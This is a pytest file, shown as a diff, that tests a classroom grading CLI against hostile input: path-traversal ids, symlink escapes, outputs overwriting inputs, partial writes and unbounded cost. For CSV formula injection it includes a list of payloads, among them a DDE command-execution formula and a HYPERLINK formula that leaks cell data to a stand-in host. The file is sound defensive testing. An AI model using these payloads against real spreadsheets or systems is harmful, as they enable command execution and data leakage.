@@ -1,0 +1,214 @@
+"""Hostile input against the class commands (issue 20): outputs over inputs, ids and paths out of their folders,
+CSV formula injection, partial outputs and unbounded cost, each refused as the README's safety section says.
+
+CLI tests run the real CLI as a subprocess on a class made by `derive variants` (hw2_class.toml, --json-only)."""
+import csv
+import os
+import shutil
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import given, strategies as st
+
+from derive.classroom import csv_files, pool
+
+ROOT = Path(__file__).resolve().parent.parent
+CLASS = ROOT / "derive" / "problems" / "hw2_class.toml"
+ENV = dict(os.environ, PYTHONPATH=str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", ""))
+
+
+def run(args, cwd, env=ENV):
+    return subprocess.run([sys.executable, "-m", "derive", *map(str, args)], cwd=cwd, env=env,
+                          capture_output=True, text=True, timeout=600)
+
+
+def read_csv(path):
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+def snapshot(folder):
+    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(Path(folder).rglob("*")) if p.is_file()}
+
+
+@pytest.fixture(scope="module")
+def made_class(tmp_path_factory):
+    """A class of two (v001, v002), JSON only, and a submission folder: v001 hands in its own answers' keys."""
+    base = tmp_path_factory.mktemp("class")
+    done = run(["variants", CLASS, "--count", "2", "--json-only", "-o", base / "D"], base)
+    assert done.returncode == 0, done.stderr
+    (base / "subs").mkdir()
+    (base / "subs" / "v001.toml").write_text('"it1.loss" = 0.5\n')
+    return base
+
+
+@pytest.fixture
+def klass(made_class, tmp_path):
+    """A fresh copy of the class for a test to attack."""
+    shutil.copytree(made_class / "D", tmp_path / "D")
+    shutil.copytree(made_class / "subs", tmp_path / "subs")
+    return tmp_path
+
+
+def one_line_exit_2(done, *words):
+    assert done.returncode == 2, (done.returncode, done.stdout, done.stderr)
+    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr
+    for word in words:
+        assert word in done.stderr, done.stderr
+
+
+# --- 1, 2: an output may not replace an input ------------------------------------------------------------
+@pytest.mark.parametrize("target", ["D/variants.csv", "subs/v001.toml"])
+def test_grade_refuses_an_output_over_its_inputs(klass, target):
+    before = snapshot(klass)
+    done = run(["grade", "D", "--claims", "subs", "-o", target], klass)
+    one_line_exit_2(done, target.split("/")[-1], "input")
+    assert snapshot(klass) == before
+
+
+def test_variants_refuses_to_overwrite_its_problem_file_or_roster(tmp_path):
+    source = tmp_path / "D" / "p" / "p.toml"
+    source.parent.mkdir(parents=True)
+    shutil.copy(CLASS, source)
+    roster = tmp_path / "r.csv"
+    roster.write_text("id\np\nq\n")
+    before = snapshot(tmp_path)
+    one_line_exit_2(run(["variants", source, "--roster", roster, "--json-only", "-o", tmp_path / "D"], tmp_path),
+                    "p.toml", "input")
+    assert snapshot(tmp_path) == before
+    listed = tmp_path / "E" / "variants.csv"
+    listed.parent.mkdir()
+    listed.write_text("id\ns1\n")
+    before = snapshot(tmp_path)
+    one_line_exit_2(run(["variants", CLASS, "--roster", listed, "--json-only", "-o", tmp_path / "E"], tmp_path),
+                    "variants.csv", "input")
+    assert snapshot(tmp_path) == before
+
+
+# --- 3: ids and paths read back from variants.csv -----------------------------------------------------
+def _edit_variants(folder, change):
+    path = folder / "D" / "variants.csv"
+    rows = read_csv(path)
+    change(rows)
+    with open(path, "w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows(rows)
+
+
+@pytest.mark.parametrize("bad", ["../../ESC", "/tmp/ESC", "..", "a/b", "v002"])
+def test_grade_refuses_an_id_the_roster_would_refuse(klass, bad):
+    escape = klass.parent / "ESC.toml"
+    escape.write_text('"it1.loss" = 0.5\n')
+
+    def change(rows):
+        rows[1][0] = bad  # v002 again: a duplicate id
+    _edit_variants(klass, change)
+    before = snapshot(klass)
+    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv", "--marked", "m"], klass)
+    one_line_exit_2(done, "variants.csv", "id (line")
+    assert snapshot(klass) == before and not (klass.parent / "ESC-marked.pdf").exists()
+
+
+def test_grade_does_not_follow_a_link_out_of_the_submissions_folder(klass):
+    secret = klass / "secret.toml"
+    secret.write_text('"it1.loss" = 0.5\n')
+    (klass / "subs" / "v002.toml").symlink_to(secret)
+    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv"], klass)
+    assert done.returncode == 0, done.stderr
+    rows = {r[0]: r for r in read_csv(klass / "g.csv")[1:]}
+    assert rows["v002"][1] == "broken" and "outside" in rows["v002"][8]
+
+
+def test_grade_refuses_a_variant_path_through_a_link_out_of_the_folder(klass):
+    outside = klass / "elsewhere"
+    shutil.copytree(klass / "D" / "v001", outside)
+    shutil.rmtree(klass / "D" / "v001")
+    (klass / "D" / "v001").symlink_to(outside)
+    one_line_exit_2(run(["grade", "D", "--claims", "subs", "-o", "g.csv"], klass), "problem (v001)")
+
+
+# --- 4: CSV formula injection -------------------------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_grades_csv_neutralises_formulas_from_variants_csv(klass, formula):
+    def change(rows):
+        status = rows[0].index("status")
+        rows[2][status] = formula
+    _edit_variants(klass, change)
+    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv"], klass)
+    assert done.returncode == 0, done.stderr
+    for row in read_csv(klass / "g.csv"):
+        for cell in row:
+            assert not cell.startswith(csv_files.FORMULA_START) or csv_files.PLAIN_NUMBER.match(cell), cell
+    reason = read_csv(klass / "g.csv")[2][8]
+    assert reason == "'" + formula
+
+
+@given(st.text(max_size=30))
+def test_a_csv_cell_never_starts_a_formula_and_keeps_its_text(text):
+    out = csv_files.cell(text)
+    assert out in (text, "'" + text)
+    assert not out.startswith(csv_files.FORMULA_START) or csv_files.PLAIN_NUMBER.match(out)
+
+
+@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
+def test_a_number_stays_a_number_in_csv(number):
+    assert csv_files.cell(number) == str(number)
+
+
+# --- 5, 6: all or nothing --------------------------------------------------------------------------------
+def test_variants_refuses_a_folder_named_variants_csv_before_any_work(tmp_path):
+    (tmp_path / "D" / "variants.csv").mkdir(parents=True)
+    done = run(["variants", CLASS, "--count", "2", "--json-only", "-o", tmp_path / "D"], tmp_path)
+    one_line_exit_2(done, "variants.csv")
+    assert [p.name for p in (tmp_path / "D").iterdir()] == ["variants.csv"]
+
+
+def test_grade_refuses_a_folder_as_its_output_before_any_marked_sheet(klass):
+    (klass / "g.csv").mkdir()
+    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv", "--marked", "m"], klass)
+    one_line_exit_2(done, "g.csv")
+    assert not (klass / "m").exists()
+
+
+def test_grade_with_marked_sheets_and_no_tex_writes_nothing(klass):
+    env = dict(ENV, PATH=str(klass / "no-tex-here"))
+    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv", "--marked", "m"], klass, env=env)
+    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
+    assert not (klass / "g.csv").exists() and not (klass / "m").exists()
+
+
+# --- 9: cost at scale -------------------------------------------------------------------------------------
+def _pid(_):
+    return os.getpid()
+
+
+def test_jobs_are_capped_at_the_cores():
+    pids = set(pool.run(_pid, list(range(4 * pool.cores() + 4)), None, workers=256))
+    assert len(pids) <= pool.cores()
+
+
+def test_grade_refuses_more_rows_than_students_before_any_work(klass):
+    from derive.classroom.roster import MAX_STUDENTS
+
+    path = klass / "D" / "variants.csv"
+    head = path.read_text().splitlines()[0]
+    path.write_text(head + "\n" + "".join(f"s{n},1,0,,,,,,,not made\n" for n in range(MAX_STUDENTS + 1)))
+    start = time.process_time()
+    done = run(["grade", "D", "--claims", "subs", "-o", "g.csv"], klass)
+    one_line_exit_2(done, f"at most {MAX_STUDENTS} students")
+    assert not (klass / "g.csv").exists()
+
+
+@given(st.lists(st.lists(st.text(max_size=8), min_size=3, max_size=3), max_size=4))
+def test_csv_text_reads_back_cell_for_cell(rows):
+    text = csv_files.csv_text(["a", "b", "c"], rows)
+    import io
+
+    back = list(csv.reader(io.StringIO(text, newline="")))
+    assert back == [["a", "b", "c"]] + [[csv_files.cell(c) for c in row] for row in rows]
